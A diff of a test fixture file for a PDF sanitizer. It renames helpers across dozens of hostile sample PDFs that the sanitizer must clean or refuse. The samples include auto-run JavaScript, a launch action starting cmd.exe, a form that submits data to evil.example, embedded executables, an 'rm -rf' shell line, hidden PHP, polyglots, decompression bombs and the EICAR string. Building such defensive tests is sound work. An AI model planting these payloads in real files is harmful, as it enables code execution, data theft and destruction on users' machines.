@@ -1,18 +1,18 @@
 import { createHash } from 'node:crypto';
 import { constants, deflateRawSync, deflateSync } from 'node:zlib';
-import { eicar } from '@participe/connectors/scanner-stand-in';
+import { eicarTestFile } from '@participe/connectors/scanner-stand-in';
 import {
   buildPdf,
-  cameraSettings,
-  drawing,
+  exifData,
+  squareDrawing,
   jpegSegment,
   jpegWith,
   pdfStream,
-  sheet,
-  smallJpeg,
+  buildOnePagePdf,
+  baselineJpeg,
   updatePdf,
 } from '@participe/file-sanitizer/samples';
-import { type HostileFile, kept, refused } from './hostile-file.ts';
+import { type HostileFile, cleaned, refused } from './hostile-file.ts';
 
 const alert = '<</S/JavaScript/JS(app.alert\\(1\\))>>';
 const launch = '<</S/Launch/F(calc.exe)/Win<</F(cmd.exe)>>>>';
@@ -23,7 +23,7 @@ const look = pdfStream('1 0 0 rg 0 0 50 50 re f', '/Type/XObject/Subtype/Form/BB
 /** Returns a PDF image that declares the given size. */
 const picture = (size: string, packed = '/DCTDecode'): Buffer =>
   pdfStream(
-    smallJpeg(),
+    baselineJpeg(),
     `/Type/XObject/Subtype/Image${size}/ColorSpace/DeviceGray/BitsPerComponent 8/Filter${packed}`,
   );
 
@@ -83,66 +83,73 @@ const program = Buffer.concat([Buffer.from('MZ'), Buffer.from('This program cann
 
 /** PDFs with active content or attachments: only the page is kept. */
 const acted: readonly HostileFile[] = [
-  kept(
+  cleaned(
     'a PDF that runs when it is opened',
-    () => sheet({ catalog: `/OpenAction ${alert}` }),
+    () => buildOnePagePdf({ catalog: `/OpenAction ${alert}` }),
     acting,
   ),
-  kept(
+  cleaned(
     'a PDF with a script among its names',
-    () => sheet({ catalog: `/Names<</JavaScript<</Names[(a) ${alert}]>>>>` }),
+    () => buildOnePagePdf({ catalog: `/Names<</JavaScript<</Names[(a) ${alert}]>>>>` }),
     acting,
   ),
-  kept('a page that runs when it is shown', () => sheet({ page: `/AA<</O ${alert}>>` }), acting),
-  kept(
+  cleaned(
+    'a page that runs when it is shown',
+    () => buildOnePagePdf({ page: `/AA<</O ${alert}>>` }),
+    acting,
+  ),
+  cleaned(
     'a script under a name in disguise',
-    () => sheet({ catalog: '/OpenAction<</S/J#61vaScript/J#53(app.alert\\(1\\))>>' }),
+    () => buildOnePagePdf({ catalog: '/OpenAction<</S/J#61vaScript/J#53(app.alert\\(1\\))>>' }),
     acting,
   ),
-  kept('a script in a packed object', () => packedPdf(`/OpenAction ${alert}`), acting),
-  kept(
+  cleaned('a script in a packed object', () => packedPdf(`/OpenAction ${alert}`), acting),
+  cleaned(
     'a script that was added behind the end',
-    () => updatePdf(sheet(), 1, [`<</Type/Catalog/Pages 2 0 R/OpenAction ${alert}>>`]),
+    () => updatePdf(buildOnePagePdf(), 1, [`<</Type/Catalog/Pages 2 0 R/OpenAction ${alert}>>`]),
     acting,
   ),
-  kept(
+  cleaned(
     'a link that starts a program',
-    () => sheet({ page: `/Annots[<<${box}/Subtype/Link/A ${launch}>>]` }),
+    () => buildOnePagePdf({ page: `/Annots[<<${box}/Subtype/Link/A ${launch}>>]` }),
     acting,
   ),
-  kept(
+  cleaned(
     'a link to another place',
-    () => sheet({ page: `/Annots[<<${box}/Subtype/Link/A<</S/URI/URI(http://evil.example/)>>>>]` }),
+    () =>
+      buildOnePagePdf({
+        page: `/Annots[<<${box}/Subtype/Link/A<</S/URI/URI(http://evil.example/)>>>>]`,
+      }),
     ['evil.example', 'URI'],
   ),
-  kept(
+  cleaned(
     'a button that sends what is written',
     () =>
-      sheet({
+      buildOnePagePdf({
         page: `/Annots[<<${box}/Subtype/Widget/FT/Btn/AP<</N 5 0 R>>/A<</S/SubmitForm/F(http://evil.example/)>>>>]`,
         more: [look],
       }),
     ['evil.example', 'SubmitForm', 'Widget'],
   ),
-  kept(
+  cleaned(
     'a box with a script for every key',
     () =>
-      sheet({
+      buildOnePagePdf({
         catalog: '/AcroForm<</Fields[6 0 R]/NeedAppearances true>>',
         page: '/Annots[6 0 R]',
         more: [look, `<<${box}/Subtype/Widget/FT/Tx/T(a)/V(b)/AP<</N 5 0 R>>/AA<</K ${alert}>>>>`],
       }),
     [...acting, 'AcroForm', 'Widget'],
   ),
-  kept(
+  cleaned(
     'a form of its own kind (XFA)',
-    () => sheet({ catalog: '/AcroForm<</XFA 5 0 R>>', more: [pdfStream('<xdp:xdp/>')] }),
+    () => buildOnePagePdf({ catalog: '/AcroForm<</XFA 5 0 R>>', more: [pdfStream('<xdp:xdp/>')] }),
     ['XFA', 'xdp'],
   ),
-  kept(
+  cleaned(
     'a program among its files',
     () =>
-      sheet({
+      buildOnePagePdf({
         catalog: '/Names<</EmbeddedFiles<</Names[(a.exe) 5 0 R]>>>>',
         more: [
           '<</Type/Filespec/F(a.exe)/EF<</F 6 0 R>>>>',
@@ -151,60 +158,64 @@ const acted: readonly HostileFile[] = [
       }),
     ['EmbeddedFile', 'a.exe', 'cannot be run'],
   ),
-  kept(
+  cleaned(
     'a program pinned to a page',
     () =>
-      sheet({
+      buildOnePagePdf({
         page: `/Annots[<<${box}/Subtype/FileAttachment/FS 5 0 R/AP<</N 7 0 R>>>>]`,
         more: ['<</Type/Filespec/F(a.exe)/EF<</F 6 0 R>>>>', pdfStream(program), look],
       }),
     ['FileAttachment', 'a.exe', 'cannot be run'],
   ),
-  kept(
+  cleaned(
     'a film that plays',
     () =>
-      sheet({
+      buildOnePagePdf({
         page: `/Annots[<<${box}/Subtype/RichMedia/RichMediaContent 5 0 R/AP<</N 6 0 R>>>>]`,
         more: [pdfStream('FWS'), look],
       }),
     ['RichMedia', 'FWS'],
   ),
-  kept(
+  cleaned(
     'a picture that stands elsewhere',
     () =>
-      sheet({
+      buildOnePagePdf({
         resources: '/XObject<</X 5 0 R>>',
-        more: [pdfStream(drawing, '/Type/XObject/Subtype/Form/BBox[0 0 9 9]/F(//evil.example/x)')],
+        more: [
+          pdfStream(squareDrawing, '/Type/XObject/Subtype/Form/BBox[0 0 9 9]/F(//evil.example/x)'),
+        ],
       }),
     ['evil.example'],
   ),
-  kept(
+  cleaned(
     'a photograph on a page that knows where it was taken',
     () =>
-      sheet({
+      buildOnePagePdf({
         resources: '/XObject<</X 5 0 R>>',
         more: [
           pdfStream(
-            jpegWith(cameraSettings(1, 'GPS 40.4168N'), jpegSegment(0xfe, Buffer.from('<?php'))),
+            jpegWith(exifData(1, 'GPS 40.4168N'), jpegSegment(0xfe, Buffer.from('<?php'))),
             '/Type/XObject/Subtype/Image/Width 20/Height 12/Filter/DCTDecode',
           ),
         ],
       }),
     ['GPS', 'Exif', 'php'],
   ),
-  kept(
+  cleaned(
     'papers about the person who wrote it',
     () =>
-      sheet({
+      buildOnePagePdf({
         catalog: '/Metadata 5 0 R/PieceInfo<</A<</Private 5 0 R>>>>',
         more: [pdfStream('<x:xmpmeta>Ana Martínez</x:xmpmeta>'), '<</Author(Ana)/Title(Secreto)>>'],
         trailer: '/Info 6 0 R',
       }),
     ['xmpmeta', 'Secreto', 'Author'],
   ),
-  kept('an object that no page needs', () => sheet({ more: [pdfStream('#!/bin/sh rm -rf')] }), [
-    '/bin/sh',
-  ]),
+  cleaned(
+    'an object that no page needs',
+    () => buildOnePagePdf({ more: [pdfStream('#!/bin/sh rm -rf')] }),
+    ['/bin/sh'],
+  ),
 ];
 
 const cut = (bytes: Buffer, from: string, to: string): Buffer =>
@@ -213,38 +224,44 @@ const digest = createHash('md5').update('key').digest('hex');
 
 /** Returns a PDF that takes long to read and is then refused for its broken end. */
 export const slowPdf = (): Buffer =>
-  sheet({ content: pdfStream(endless(60), '/Filter/FlateDecode') });
+  buildOnePagePdf({ content: pdfStream(endless(60), '/Filter/FlateDecode') });
 
 /** PDFs that are refused: encrypted, broken, polyglot, or oversized when unpacked. */
 const broken: readonly HostileFile[] = [
   refused('a PDF under a key', () =>
-    sheet({ trailer: `/Encrypt<</Filter/Standard/V 1/R 2/P -4>>/ID[<${digest}><${digest}>]` }),
+    buildOnePagePdf({
+      trailer: `/Encrypt<</Filter/Standard/V 1/R 2/P -4>>/ID[<${digest}><${digest}>]`,
+    }),
   ),
   refused('a PDF under the key of somebody', () =>
-    sheet({ content: pdfStream(drawing, '/Filter/Crypt') }),
+    buildOnePagePdf({ content: pdfStream(squareDrawing, '/Filter/Crypt') }),
   ),
-  refused('half a PDF', () => sheet().subarray(0, 200)),
-  refused('a PDF without its end', () => sheet().subarray(0, -7)),
+  refused('half a PDF', () => buildOnePagePdf().subarray(0, 200)),
+  refused('a PDF without its end', () => buildOnePagePdf().subarray(0, -7)),
   refused('the beginning of a PDF', () => Buffer.from('%PDF-1.7\n')),
   refused('a PDF with a packed file behind it', () =>
-    Buffer.concat([sheet(), Buffer.from('PK\u0003\u0004')]),
+    Buffer.concat([buildOnePagePdf(), Buffer.from('PK\u0003\u0004')]),
   ),
   refused('a PDF with a page of the web behind it', () =>
-    Buffer.concat([sheet(), Buffer.from('<script>alert(1)</script>')]),
+    Buffer.concat([buildOnePagePdf(), Buffer.from('<script>alert(1)</script>')]),
   ),
-  refused('a picture with a PDF behind it', () => Buffer.concat([Buffer.from('GIF89a'), sheet()])),
+  refused('a picture with a PDF behind it', () =>
+    Buffer.concat([Buffer.from('GIF89a'), buildOnePagePdf()]),
+  ),
   refused('a page of the web with a PDF in it', () =>
-    Buffer.concat([Buffer.from('<!--'), sheet()]),
+    Buffer.concat([Buffer.from('<!--'), buildOnePagePdf()]),
   ),
   refused('a PDF behind a mark of byte order', () =>
-    Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), sheet()]),
+    Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), buildOnePagePdf()]),
   ),
   refused('a PDF whose table points elsewhere', () =>
-    cut(sheet(), '%\u00e2\u00e3\u00cf\u00d3\n', '% moved everything\n'),
+    cut(buildOnePagePdf(), '%\u00e2\u00e3\u00cf\u00d3\n', '% moved everything\n'),
   ),
-  refused('a PDF with more objects than fit', () => cut(sheet(), '1 4\n0', '1 999999999\n0')),
+  refused('a PDF with more objects than fit', () =>
+    cut(buildOnePagePdf(), '1 4\n0', '1 999999999\n0'),
+  ),
   refused('a PDF whose parts run in a circle', () => {
-    const text = sheet().toString('latin1');
+    const text = buildOnePagePdf().toString('latin1');
     return Buffer.from(
       text.replace(/>>\nstartxref\n(\d+)/u, '/Prev $1>>\nstartxref\n$1'),
       'latin1',
@@ -258,37 +275,41 @@ const broken: readonly HostileFile[] = [
   ),
   refused('an object that holds itself', () => packedPdf('', true)),
   refused('values without end in each other', () =>
-    sheet({ resources: `/Font ${'['.repeat(5000)}${']'.repeat(5000)}` }),
+    buildOnePagePdf({ resources: `/Font ${'['.repeat(5000)}${']'.repeat(5000)}` }),
   ),
   refused('a stream that is longer than its file', () =>
-    sheet({ content: Buffer.from('<</Length 99999999>>\nstream\nx\nendstream') }),
+    buildOnePagePdf({ content: Buffer.from('<</Length 99999999>>\nstream\nx\nendstream') }),
   ),
   refused('a stream whose length leads to itself', () =>
-    sheet({ content: Buffer.from('<</Length 4 0 R>>\nstream\nx\nendstream') }),
+    buildOnePagePdf({ content: Buffer.from('<</Length 4 0 R>>\nstream\nx\nendstream') }),
   ),
   refused('a stream that unfolds without end', () =>
-    sheet({ content: pdfStream(endless(), '/Filter/FlateDecode') }),
+    buildOnePagePdf({ content: pdfStream(endless(), '/Filter/FlateDecode') }),
   ),
   refused('a stream that unfolds twice', () =>
-    sheet({ content: pdfStream(deflateSync(endless()), '/Filter[/FlateDecode/FlateDecode]') }),
+    buildOnePagePdf({
+      content: pdfStream(deflateSync(endless()), '/Filter[/FlateDecode/FlateDecode]'),
+    }),
   ),
   refused('a stream of runs that add up', () =>
-    sheet({ content: pdfStream(Buffer.alloc(5 * 1024 * 1024, 0x81), '/Filter/RunLengthDecode') }),
+    buildOnePagePdf({
+      content: pdfStream(Buffer.alloc(5 * 1024 * 1024, 0x81), '/Filter/RunLengthDecode'),
+    }),
   ),
   refused('a picture as large as a field', () =>
-    sheet({
+    buildOnePagePdf({
       resources: '/XObject<</X 5 0 R>>',
       more: [picture('/Width 100000/Height 100000')],
     }),
   ),
   refused('a picture packed by nobody knows what', () =>
-    sheet({
+    buildOnePagePdf({
       resources: '/XObject<</X 5 0 R>>',
       more: [picture('/Width 9/Height 9', '/MadeUpDecode')],
     }),
   ),
   refused('a PDF in which the scanner finds something', () =>
-    sheet({ content: pdfStream(`% ${eicar}`) }),
+    buildOnePagePdf({ content: pdfStream(`% ${eicarTestFile}`) }),
   ),
 ];
 
